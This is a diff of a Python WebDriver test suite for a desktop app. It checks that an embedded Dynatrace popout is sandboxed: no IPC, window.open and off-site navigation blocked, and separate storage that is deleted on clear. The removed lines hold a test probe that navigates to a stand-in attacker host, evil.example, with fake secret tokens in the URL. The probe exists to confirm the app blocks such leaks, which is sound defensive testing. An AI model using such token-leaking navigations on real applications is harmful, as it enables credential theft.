@@ -245,82 +245,66 @@ def check_popout_borrows_the_session(sid):
           "aux_session aux-only")
 
 
-def popout_storage_probe(sid, popout, value):
-    """In the popout: returns what its own storage held for the probe key, then stores `value`
-    (localStorage and a cookie), and asks for a permission (Notification)."""
-    call("POST", f"/session/{sid}/window", {"handle": popout})
-    probe = ("const done = arguments[arguments.length - 1];"
-             "let held = null; try { held = localStorage.getItem('relay-isolation-probe'); } catch (e) { held = 'no-storage'; }"
-             "try { localStorage.setItem('relay-isolation-probe', arguments[0]); } catch (e) {}"
-             "document.cookie = 'relay_probe=' + arguments[0] + '; path=/; max-age=3600; secure';"
-             "const ask = (window.Notification && Notification.requestPermission) ? Notification.requestPermission() : Promise.resolve('none');"
-             "Promise.race([ask, new Promise(r => setTimeout(() => r('timeout'), 3000))])"
-             "  .then(p => done({held, cookie: document.cookie, permission: p, origin: location.origin}), e => done({held, error: String(e)}));")
-    return call("POST", f"/session/{sid}/execute/async", {"script": probe, "args": [value]})["value"]
+def probe_results(after):
+    """The probe reports the popout's results as the origin of a navigation the Dynatrace rule
+    blocks (lockdown::DYNATRACE_PROBE); the log names origins only. Returns the results after
+    `after` log lines."""
+    def found():
+        lines = log_text().splitlines()[after:]
+        return [l for l in lines if "dynatrace popout navigation blocked" in l and "probe-" in l]
+    line = wait_for("the popout probe's report in the app log", found, timeout=20)[-1]
+    report = line.split("probe-", 1)[1].split(".evil.example", 1)[0]
+    ipc, held, perm, popup = report.split("-")
+    return {"ipc": ipc, "held": held, "perm": perm, "popup": popup}
 
 
-def check_dynatrace_session_isolation(sid, data_dir):
-    """The popout keeps its browser data in its own store (DATA/webviews/dynatrace-<n>, 0700),
-    never the app's: what it stores is invisible to the main window's storage; a permission
-    request there is denied (and logged by kind); "Clear Dynatrace session" closes the popout and
-    the next popout starts with an empty, new store."""
-    url = "https://abc12345.live.dynatrace.com/ui/dashboards"
-    main_handle, before, popout = open_window(sid, "open_dynatrace", {"url": url}, "dynatrace", "the Dynatrace popout")
-    first = popout_storage_probe(sid, popout, "first-session")
-    store = os.path.join(data_dir, "webviews", "dynatrace-0")
-    assert os.path.isdir(store), f"the popout's own store is missing: {os.listdir(data_dir)}"
-    assert stat.S_IMODE(os.stat(store).st_mode) == 0o700, oct(os.stat(store).st_mode)
-    wait_for("WebKit writing the popout's data into its own store", lambda: os.listdir(store), timeout=15)
-    assert first.get("permission") in ("denied", "default", "none", "timeout"), first
-    call("POST", f"/session/{sid}/window", {"handle": main_handle})
-    main_view = call("POST", f"/session/{sid}/execute/sync", {
-        "script": "return [localStorage.getItem('relay-isolation-probe'), document.cookie];", "args": []})["value"]
-    assert "first-session" not in json.dumps(main_view), f"the app's storage sees the popout's data: {main_view}"
-    cleared = invoke(sid, "clear_dynatrace_session")
-    assert "ok" in cleared, cleared
-    wait_for("the popout closed by the clear",
-             lambda: set(call("GET", f"/session/{sid}/window/handles")["value"]) == before, timeout=10)
-    assert not os.path.exists(store), "the old store survived the clear"
-    _, _, again = open_window(sid, "open_dynatrace", {"url": url}, "dynatrace", "the Dynatrace popout again")
-    second = popout_storage_probe(sid, again, "second-session")
-    assert second.get("held") in (None, "no-storage"), f"the new session still holds the old data: {second}"
-    assert os.path.isdir(os.path.join(data_dir, "webviews", "dynatrace-1"))
-    call("DELETE", f"/session/{sid}/window")
-    call("POST", f"/session/{sid}/window", {"handle": main_handle})
-    print(f"ok   Dynatrace popout: own 0700 store, invisible to the app, permission {first.get('permission')}, "
-          f"cleared to a new empty store ({first.get('origin')}, held after clear: {second.get('held')})")
-
-
-def check_dynatrace_popout(sid):
-    """open_dynatrace builds the popout with the Dynatrace navigation rule (not the app lockdown
-    and not none): a navigation off Dynatrace from inside the popout is refused by the Dynatrace
-    handler (its own log line, origin only), window.open there is refused, and the popout has no
-    IPC. There is no network here, so the Dynatrace page itself does not load; the checks run on
-    whatever page the popout shows."""
+def check_dynatrace_popout(sid, data_dir):
+    """The Dynatrace popout runs in its own WebKit context and store, which WebDriver (one
+    automated context) cannot see: open_dynatrace answers, but no window joins the app's
+    handles. The debug-only probe in the popout (RELAY_TEST_DYNATRACE_PROBE=1) reports through a
+    blocked navigation: no IPC, window.open refused, the permission request not granted, and
+    its data kept in DATA/webviews/dynatrace-0 (0700) across a re-navigation; the
+    navigation rule's own log line names the origin only. "Clear Dynatrace session" closes it,
+    deletes that store, and the next popout starts empty in dynatrace-1."""
     url = "https://abc12345.live.dynatrace.com/ui/dashboards?dt=dt-query-777"
-    main_handle, before, popout = open_window(sid, "open_dynatrace", {"url": url}, "dynatrace", "the Dynatrace popout")
-    call("POST", f"/session/{sid}/window", {"handle": popout})
-    probe = ("const done = arguments[arguments.length - 1];"
-             "const t = window.__TAURI_INTERNALS__;"
-             "const ipc = t ? t.invoke('health').then(() => 'allowed', () => 'refused') : Promise.resolve('absent');"
-             "ipc.then((ipc) => {"
-             "  const w = window.open('https://evil.example/dt-popup?token=dt-secret-1');"
-             "  location.href = 'https://evil.example/dt-phish?token=dt-secret-2';"
-             "  setTimeout(() => done({ipc, popup: w === null ? null : 'opened'}), 1500);"
-             "});")
-    result = call("POST", f"/session/{sid}/execute/async", {"script": probe, "args": []})["value"]
-    assert result["ipc"] in ("absent", "refused"), f"the Dynatrace popout must have no IPC: {result}"
-    line = wait_for("the Dynatrace handler's refusal in the app log",
-                    lambda: [l for l in log_text().splitlines() if "dynatrace popout navigation blocked" in l],
-                    timeout=15)
-    assert "evil.example" in line[-1], line[-1]
-    assert "dt-secret" not in log_text() and "dt-query-777" not in log_text(), "full URLs logged"
-    handles = set(call("GET", f"/session/{sid}/window/handles")["value"])
-    assert handles == before | {popout}, f"window.open created a window: {handles}"
-    call("DELETE", f"/session/{sid}/window")
-    call("POST", f"/session/{sid}/window", {"handle": main_handle})
-    print(f"ok   Dynatrace popout: off-site navigation refused by its own handler, window.open refused, "
-          f"no IPC ({result})")
+    before = set(call("GET", f"/session/{sid}/window/handles")["value"])
+    mark = len(log_text().splitlines())
+    opened = invoke(sid, "open_dynatrace", {"url": url})
+    assert opened.get("ok") == "dynatrace", opened
+    first = probe_results(mark)
+    assert first["ipc"] in ("absent", "refused"), f"the Dynatrace popout must have no IPC: {first}"
+    assert (first["perm"], first["popup"]) == ("denied", "refused"), first
+    # Without network the popout shows WebKit's error page, whose opaque origin has no storage;
+    # with storage (a reachable page) the store must start empty.
+    storage = first["held"] != "nostorage"
+    assert first["held"] in ("empty", "nostorage"), first
+    time.sleep(1)
+    assert set(call("GET", f"/session/{sid}/window/handles")["value"]) == before, \
+        "the popout joined the app's browser context"
+    store = os.path.join(data_dir, "webviews", "dynatrace-0")
+    assert os.path.isdir(store) and stat.S_IMODE(os.stat(store).st_mode) == 0o700, store
+    wait_for("WebKit writing the popout's data into its own store", lambda: os.listdir(store), timeout=15)
+    # The same popout re-navigated: its store kept what it stored.
+    mark = len(log_text().splitlines())
+    assert invoke(sid, "open_dynatrace", {"url": url}).get("ok") == "dynatrace"
+    again = probe_results(mark)
+    assert again["held"] == ("kept" if storage else "nostorage"), again
+    app_storage = call("POST", f"/session/{sid}/execute/sync", {
+        "script": "return localStorage.getItem('relay-probe');", "args": []})["value"]
+    assert app_storage is None, f"the app's storage holds the popout's data: {app_storage}"
+    assert "dt-query-777" not in log_text(), "full URLs logged"
+    # Clear: the popout closes, the store is deleted, the next popout starts empty.
+    assert "ok" in invoke(sid, "clear_dynatrace_session")
+    wait_for("the clear in the log", lambda: "the Dynatrace session was cleared" in log_text(), timeout=10)
+    assert not os.path.exists(store), "the old store survived the clear"
+    mark = len(log_text().splitlines())
+    assert invoke(sid, "open_dynatrace", {"url": url}).get("ok") == "dynatrace"
+    fresh = probe_results(mark)
+    assert fresh["held"] == ("empty" if storage else "nostorage"), fresh
+    assert os.path.isdir(os.path.join(data_dir, "webviews", "dynatrace-1"))
+    invoke(sid, "clear_dynatrace_session")
+    print(f"ok   Dynatrace popout: own context and 0700 store (not in the app's handles), {first}, storage kept "
+          f"across navigations and emptied by Clear Dynatrace session")
 
 
 def check_data_administration(sid, data_dir):
@@ -386,6 +370,8 @@ def main():
     # No session bus: the app keeps its passphrase in the data directory file (development
     # build), which this flow reads to compare with reveal_passphrase.
     os.environ["DBUS_SESSION_BUS_ADDRESS"] = "unix:path=/nonexistent/relay-no-bus"
+    # Debug builds only: the Dynatrace popout reports through its log (lockdown::DYNATRACE_PROBE).
+    os.environ["RELAY_TEST_DYNATRACE_PROBE"] = "1"
     data_dir = tempfile.mkdtemp(prefix="relay-desktop-wd-")
     proc = start_driver()
     sid = None
@@ -458,8 +444,7 @@ def main():
         print(f"ok   navigation to another origin blocked, window.open refused ({result})")
 
         check_window_open_handler(sid)
-        check_dynatrace_popout(sid)
-        check_dynatrace_session_isolation(sid, data_dir)
+        check_dynatrace_popout(sid, data_dir)
         check_connect_src(sid, info["ok"]["serverUrl"])
         sign_in_flow(sid, info["ok"]["serverUrl"], secret)
 
